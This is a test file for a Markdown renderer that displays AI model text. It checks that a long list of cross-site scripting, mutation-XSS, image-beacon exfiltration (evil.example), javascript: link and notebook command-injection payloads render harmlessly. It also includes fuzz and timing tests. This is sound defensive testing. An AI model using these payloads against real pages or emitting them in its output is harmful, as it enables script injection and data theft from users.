// Model text formats and does nothing else.
import { cleanup, render } from "@testing-library/preact";
import userEvent from "@testing-library/user-event";
import { afterEach, describe, expect, test, vi } from "vitest";
import { opened } from "../../tests/stage";
import { MarkdownText } from "./markdown-text";

afterEach(() => {
  cleanup();
  vi.unstubAllGlobals();
});

const ELEMENTS = new Set(
  "div p br hr strong em del code pre blockquote ul ol li table thead tbody tr th td button span".split(" "),
);
const ATTRIBUTES: Record<string, string[]> = { button: ["type", "class", "title"], ol: ["start"] };

function draw(text: string): HTMLElement {
  return render(<MarkdownText text={text} />).container as HTMLElement;
}

/** Everything that is not on the list: elements, attributes, addresses. */
function forbidden(root: HTMLElement): string[] {
  return [...root.querySelectorAll("*")].flatMap((element) => {
    const name = element.localName;
    const allowed = ["class", ...(ATTRIBUTES[name] ?? [])];
    const extra = element.getAttributeNames().filter((attribute) => !allowed.includes(attribute));
    return [...(ELEMENTS.has(name) ? [] : [name]), ...extra.map((attribute) => `${name}[${attribute}]`)];
  });
}

const HOSTILE = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)><g/onload=alert(2)></svg>",
  "<math><mtext></table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<a href='javascript:alert(1)'>x</a>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java\u0000script:alert(1))",
  "[x](java&#115;cript:alert(1))",
  "[x](data:text/html;base64,PHNjcmlwdD4=)",
  "[x](vbscript:msgbox(1))",
  "[x](//evil.example/p)",
  "[x](file:///etc/passwd)",
  "[x](https://user:pass@evil.example/)",
  "![x](https://evil.example/?d=rows)",
  "![x][1]\n\n[1]: https://evil.example/pixel.png",
  "[![x](https://evil.example/a.png)](https://evil.example)",
  "<button data-commandlinker-command=\"terminal:create-new\" data-commandlinker-args='{}'>run</button>",
  '<div data-commandlinker-command="notebook:run-all-cells">x</div>',
  "<form action=https://evil.example><input name=x><button>go</button></form>",
  "<style>@import url(https://evil.example/x.css)</style>",
  "<link rel=prefetch href=https://evil.example>",
  "<link rel=dns-prefetch href=//rows.evil.example>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  "<base href=https://evil.example>",
  "<object data=https://evil.example></object><embed src=https://evil.example>",
  "<video poster=https://evil.example/p><source src=x onerror=alert(1)></video>",
  "<details open ontoggle=alert(1)>x</details>",
  "<p style='background:url(https://evil.example)'>x</p>",
  "<p class='jp-Cell' id='x' name='body'>x</p>",
  "<table background=https://evil.example><td>x</td></table>",
  "$$\\href{javascript:alert(1)}{x}$$ \\(\\includegraphics{https://evil.example/x.png}\\)",
  "```html\n<script>alert(1)</script>\n```",
  "`<img src=x onerror=alert(1)>`",
  "| <img src=x onerror=alert(1)> | b |\n| --- | --- |\n| <svg/onload=alert(1)> | [x](javascript:alert(1)) |",
  "# <img src=x onerror=alert(1)>",
  "- <script>alert(1)</script>\n  > <iframe src=https://evil.example>",
  "<<script>alert(1)//<</script>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  '"><img src=x onerror=alert(1)>',
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "&lt;img src=x onerror=alert(1)&gt;",
  "&#60;img src=x onerror=alert(1)&#62;",
  "<!--><img src=x onerror=alert(1)>-->",
  "<![CDATA[<img src=x onerror=alert(1)>]]>",
  '<https://evil.example/"onmouseover=alert(1)>',
  "https://evil.example/<img/src=x/onerror=alert(1)>",
  '[x](https://evil.example/ "onclick=alert(1)")',
  "[a](<javascript:alert(1)>)",
  "\u202e<img src=x>\u202c",
];

describe("model text", () => {
  test.each(HOSTILE)("draws only harmless elements from %s", (text) => {
    const root = draw(text);
    expect(forbidden(root)).toEqual([]);
    expect(root.querySelectorAll("a, img, [href], [src], [style], [id]")).toHaveLength(0);
  });

  test("draws only harmless elements from a thousand mixtures of all of these", () => {
    let seed = 42;
    const random = (below: number) => {
      seed = (seed * 1103515245 + 12345) % 2 ** 31;
      return seed % below;
    };
    const parts = [
      ...HOSTILE,
      ...["**", "_", "`", "\n\n", "> ", "- ", "1. ", "[", "](", ")", "|", "\n| --- |\n", "```"],
    ];
    for (let round = 0; round < 1000; round++) {
      const text = Array.from({ length: 1 + random(8) }, () => parts[random(parts.length)]).join("");
      const cut = text.slice(0, 1 + random(text.length));
      const root = draw(cut);
      expect(forbidden(root), cut).toEqual([]);
      cleanup();
    }
  });

  test("shows HTML as it was written", () => {
    expect(draw("a <img src=x onerror=alert(1)> b").textContent).toBe("a <img src=x onerror=alert(1)> b");
  });

  test("shows an image as its words", () => {
    expect(draw("see ![the rows](https://evil.example/?d=1)").textContent).toBe("see the rows");
  });

  test("shows the host of a link, keeps its address out of the page, and opens it on a click only", async () => {
    const open = opened();
    const root = draw("see [your bank](https://evil.example/path?x=1).");
    const link = root.querySelector("button");
    expect(root.textContent).toBe("see your bank (evil.example).");
    expect(link?.title).toBe("https://evil.example/path?x=1");
    expect(open).not.toHaveBeenCalled();
    await userEvent.click(link as HTMLElement);
    expect(open).toHaveBeenCalledWith("https://evil.example/path?x=1", "_blank", "noopener,noreferrer");
  });

  test("shows a host in letters of another script as what it is", () => {
    expect(draw("[x](https://\u0430pple.com/)").textContent).toContain("(xn--pple-43d.com)");
  });

  test.each([
    ["**bold** and _slanted_", "<p><strong>bold</strong> and <em>slanted</em></p>"],
    ["***both***", "<p><strong><em>both</em></strong></p>"],
    ["customer_id_idx and a_b", "<p>customer_id_idx and a_b</p>"],
    ["2 * 3 * 4 and **", "<p>2 * 3 * 4 and **</p>"],
    ["~~gone~~", "<p><del>gone</del></p>"],
    ["`` a`b `` and `x_y_z`", "<p><code>a`b</code> and <code>x_y_z</code></p>"],
    ["a `b", "<p>a `b</p>"],
    ["\\*not\\*", "<p>*not*</p>"],
    ["one\ntwo", "<p>one<br>two</p>"],
    ["one\n\ntwo", "<p>one</p><p>two</p>"],
    ["a &lt; b &amp; c", "<p>a &lt; b &amp; c</p>"],
    [
      "```sql\nSELECT 1;\n\n-- *x*\n```\nafter",
      '<pre class="oa-sql"><code>SELECT 1;\n\n-- *x*</code></pre><p>after</p>',
    ],
    ["```\nstill streaming", '<pre class="oa-sql"><code>still streaming</code></pre>'],
    ["- a\n- b\n  - c\n\nd", "<ul><li><p>a</p></li><li><p>b</p><ul><li><p>c</p></li></ul></li></ul><p>d</p>"],
    ["3. a\n4. b", '<ol start="3"><li><p>a</p></li><li><p>b</p></li></ol>'],
    ["1. a\n   more\n\n   para\n2. b", '<ol start="1"><li><p>a<br>more</p><p>para</p></li><li><p>b</p></li></ol>'],
    ["text\n- a", "<p>text</p><ul><li><p>a</p></li></ul>"],
    ["> a\n> b", "<blockquote><p>a<br>b</p></blockquote>"],
    ["## T ##", '<p class="oa-heading oa-heading-2">T</p>'],
    ["#tag and 1.5 and -x", "<p>#tag and 1.5 and -x</p>"],
    ["a\n\n---\n\nb", "<p>a</p><hr><p>b</p>"],
    ["[a] and [b](", "<p>[a] and [b](</p>"],
    ["**[a", "<p>**[a</p>"],
    ["a | b", "<p>a | b</p>"],
  ])("draws %j", (text, html) => {
    expect(draw(text).firstElementChild?.innerHTML).toBe(html);
  });

  test("draws a table, numbers to the right", () => {
    const root = draw("| pid | age |\n| --- | ---: |\n| 4711 | 3 min |\n| `a\\|b` |");
    const cells = [...root.querySelectorAll("tr")].map((row) => [...row.children].map((cell) => cell.textContent));
    expect(cells).toEqual([
      ["pid", "age"],
      ["4711", "3 min"],
      ["a|b", ""],
    ]);
    expect(root.querySelectorAll("td")[1]?.className).toBe("oa-right");
  });

  test.each([
    ["brackets", "[".repeat(20_000)],
    ["links that never end", "](".repeat(20_000)],
    ["links of spaces", `[a](${" ".repeat(50_000)}x`],
    ["stars", "*a ".repeat(20_000)],
    ["ticks of growing length", Array.from({ length: 200 }, (_, n) => "`".repeat(n + 1)).join(" ")],
    ["quotes", ">".repeat(20_000)],
    ["nested lists", Array.from({ length: 500 }, (_, n) => `${" ".repeat(n * 2)}- x`).join("\n")],
    ["a table rule of spaces", `a|b\n-${" ".repeat(50_000)}x`],
    ["addresses", "https://".repeat(10_000)],
    ["hashes", `# ${"#".repeat(50_000)}x`],
    ["dashes", `${"- ".repeat(20_000)}x`],
  ])("takes time in proportion to %s", (_, text) => {
    const started = performance.now();
    draw(text);
    expect(performance.now() - started).toBeLessThan(3000);
  });
});
